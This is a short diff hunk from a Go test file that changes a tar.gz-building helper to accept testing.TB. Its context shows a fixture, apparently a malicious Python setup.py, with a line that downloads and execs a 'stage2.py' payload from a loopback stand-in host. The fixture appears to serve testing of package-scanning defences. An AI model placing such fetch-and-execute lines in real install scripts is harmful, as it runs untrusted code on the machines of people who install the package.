@@ -29,7 +29,7 @@ exec(urllib.request.urlopen("http://127.0.0.1:9/stage2.py").read())
 setup(name="x", version="2.0")
 `
 
-func targz(t *testing.T, files map[string]string) []byte {
+func targz(t testing.TB, files map[string]string) []byte {
 	t.Helper()
 	var buf bytes.Buffer
 	zw := gzip.NewWriter(&buf)
